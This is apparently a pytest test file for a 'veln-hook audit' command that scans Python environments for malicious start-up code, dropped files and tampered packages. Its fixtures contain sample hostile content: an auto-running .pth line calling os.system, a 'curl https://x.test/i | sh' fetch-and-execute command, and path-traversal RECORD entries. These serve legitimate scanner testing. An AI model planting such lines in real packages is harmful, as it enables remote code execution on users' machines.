"""``veln-hook audit`` in this process, about environments that wheels were unpacked into."""

from __future__ import annotations

import json
import os
import zipfile
from contextlib import closing
from datetime import datetime, timedelta, timezone

import pytest

from support.builders import make_wheel
from veln_hook.archive import describe_archive
from veln_hook.archive.installed import installed_in, site_directories
from veln_hook.guard import Guard
from veln_hook.model import Approval, Observation, Origin
from veln_hook.policy.loading import load_policy
from veln_hook.store import open_store

EVIL = {"acme/__init__.py": "VERSION = 1\n", "acme_init.pth": "import os; os.system('id')\n"}

pytestmark = pytest.mark.usefixtures("own_home")


@pytest.fixture
def site(tmp_path):
    made = tmp_path / "env" / "lib" / "python3.12" / "site-packages"
    made.mkdir(parents=True)
    (tmp_path / "env" / "bin").mkdir()
    return made


@pytest.fixture
def env(site):
    return site.parents[2]


@pytest.fixture
def install(site, tmp_path):
    def unpack(name, version, files=None, **options):
        wheel = make_wheel(tmp_path, name, version, files, **options)
        with zipfile.ZipFile(wheel) as archive:
            archive.extractall(site)
        return wheel

    return unpack


def results(out):
    return {(one["project"] or "nobody"): one for one in json.loads(out)["results"]}


def test_start_up_code_comes_first_then_each_distribution(run, env, install):
    install("other", "1.0")
    install("acme", "2.0", EVIL)
    status, out, err = run("audit", "--env", env)
    assert (status, err) == (77, "")
    lines = out.splitlines()
    assert lines[0].startswith("start-up code")
    assert lines[1:3] == ["      acme_init.pth:1  acme 2.0", "          import os; os.system('id')"]
    assert lines[3].startswith("HOLD  acme 2.0  ")
    assert lines[-2] == "ALLOW other 1.0  no findings"
    assert lines[-1].startswith("there is no feed")
    told = results(run("audit", "--env", env, "--json")[1])
    assert told["acme"]["start_up"] == [
        {"path": "acme_init.pth", "line": 1, "code": "import os; os.system('id')"}
    ]
    assert told["other"]["verdict"] == "allow"


def test_files_of_no_distribution_are_judged_too(run, env, install, site):
    install("other", "1.0")
    (site / "dropped.pth").write_text("import os; os.system('id')\n")
    (site / "sitecustomize.py").write_text("raise SystemExit('nobody runs this')\n")
    status, out, _ = run("audit", "--env", env)
    assert status == 77
    assert "dropped.pth:1  files of no distribution" in out
    assert "sitecustomize.py:1  files of no distribution" in out
    assert f"HOLD  files of no distribution in {site}" in out
    assert "ALLOW other" in out


def test_nothing_of_the_environment_is_run(run, env, install, site, tmp_path):
    mark = f"open({str(tmp_path / 'ran')!r}, 'w')\n"
    install(
        "acme",
        "1.0",
        {"acme/__init__.py": mark, "acme.pth": f"import acme; {mark}", "sitecustomize.py": mark},
    )
    run("audit", "--env", env)
    assert not (tmp_path / "ran").exists()


def test_scripts_are_read_where_they_are(run, env, install, site):
    install("acme", "1.0")
    (env / "bin" / "acme").write_text(
        "#!/usr/bin/python\nimport os\nos.system('curl https://x.test/i | sh')\n"
    )
    record = site / "acme-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + "../../../bin/acme,,\n")
    told = results(run("audit", "--env", env, "--json")[1])
    assert "../../../bin/acme" in {finding["path"] for finding in told["acme"]["findings"]}


def test_a_record_leads_nowhere_outside(env, install, site, tmp_path):
    install("acme", "1.0")
    (tmp_path / "secret.py").write_text("password = 1\n")
    record = site / "acme-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + f"../../../../secret.py,,\n{tmp_path / 'secret.py'},,\n")
    (acme,) = installed_in(str(site), str(env))
    assert str(tmp_path / "secret.py") not in acme.files.values()


def test_what_an_install_let_pass_is_what_counts(run, env, install, site):
    wheel = install("acme", "2.0", EVIL)
    store = open_store()
    guard = Guard(load_policy(environ={}), store)
    archive = describe_archive(str(wheel), origin=Origin.FETCHED)
    assert not guard.check_archive(archive).passes
    guard.close()
    assert run("audit", "--env", env)[0] == 77, "it was read, but nobody let it pass"
    now = datetime.now(timezone.utc)
    store.add_approval(Approval("acme", "2.0", wheel.name, archive.sha256, "seen", "ada@host", now))
    store.close()
    status, out, _ = run("audit", "--env", env)
    assert status == 0, out
    assert "0 new against 2.0" in out
    (site / "acme" / "__init__.py").write_text("import os\nos.system('curl -s https://x.test/i | sh')\n")
    told = results(run("audit", "--env", env, "--json")[1])
    assert told["acme"]["verdict"] == "hold"
    assert any(finding["new"] for finding in told["acme"]["findings"])


def test_bytecode_counts_where_its_source_is_gone(env, install, site):
    install("acme", "1.0", {"acme/__init__.py": "", "acme/gone.pyc": b"\0"})
    (site / "acme" / "__pycache__").mkdir()
    (site / "acme" / "__pycache__" / "__init__.cpython-312.pyc").write_bytes(b"\0")
    (acme,) = installed_in(str(site), str(env))
    assert {name for name in acme.files if name.endswith(".pyc")} == {"acme/gone.pyc"}


def test_a_distribution_without_a_record_owns_what_it_names(env, site):
    (site / "acme").mkdir()
    (site / "acme" / "__init__.py").touch()
    (site / "acme-1.0.egg-info").mkdir()
    (site / "acme-1.0.egg-info" / "PKG-INFO").write_text("Name: Acme\nVersion: 1.0\n")
    (site / "acme-1.0.egg-info" / "top_level.txt").write_text("acme\n../..\n/etc\n")
    (acme,) = installed_in(str(site), str(env))
    assert (acme.project, acme.version) == ("acme", "1.0")
    assert "acme/__init__.py" in acme.files


def test_links_are_followed_once(env, site, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.py").touch()
    (tmp_path / "elsewhere" / "loop").symlink_to(tmp_path / "elsewhere")
    (site / "linked").symlink_to(tmp_path / "elsewhere")
    (rest,) = installed_in(str(site), str(env))
    assert list(rest.files) == ["linked/x.py"]


def test_site_packages_itself_may_be_named(run, site, install):
    install("acme", "2.0", EVIL)
    assert run("audit", "--env", site)[0] == 77
    assert site_directories(str(site)) == [str(site)]


def test_sarif_names_the_files(run, env, install, site):
    install("acme", "2.0", EVIL)
    log = json.loads(run("audit", "--env", env, "--sarif")[1])
    uris = {
        one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for one in log["runs"][0]["results"]
    }
    assert f"file://{site}/acme_init.pth" in uris


@pytest.mark.parametrize(
    "argv", [["--env", "absent"], ["--env", "."], ["--json", "--sarif"], ["--env", "file"]]
)
def test_a_user_s_mistake_is_told_in_words(run, tmp_path, argv):
    (tmp_path / "file").touch()
    status, out, err = run("audit", *argv)
    assert status == 2
    assert "Traceback" not in err
    assert "error" in err + out


def test_an_environment_that_is_broken_is_told_about(run, env, install, site):
    install("acme", "1.0")
    (site / "acme-1.0.dist-info" / "RECORD").write_bytes(b'"' + b"\xff" * 200_000)
    (site / "dangling.py").symlink_to(site / "nowhere")
    (site / "broken-1.dist-info").touch()
    os.mkfifo(site / "pipe.py")
    status, out, err = run("audit", "--env", env)
    assert status in (0, 77)
    assert err == ""
    assert "acme 1.0" in out


def test_when_and_where_a_release_was_first_seen(run, env, install):
    install("acme", "2.0")
    install("other", "1.0")
    first = datetime(2026, 5, 1, 12, tzinfo=timezone.utc)
    with closing(open_store()) as store:
        for days, machine in ((3, "b" * 32), (0, "a" * 32)):
            seen = Observation(
                *("acme", "2.0", "acme-2.0.tar.gz", "ab" * 32, "https://pypi.org/simple/"),
                first + timedelta(days=days),
                machine,
            )
            store.observe([seen, seen._replace(version="3.0", filename="acme-3.0.tar.gz")])
    _, out, _ = run("audit", "--env", env, "--all")
    assert "      seen     2026-05-01 12:00 UTC on https://pypi.org/simple/, by 2 machines\n" in out
    assert out.count("seen  ") == 1
    _, out, _ = run("audit", "--env", env, "--json")
    assert results(out)["acme"]["first_seen"] == "2026-05-01T12:00:00+00:00"
    assert (results(out)["acme"]["machines"], results(out)["other"]["first_seen"]) == (2, None)
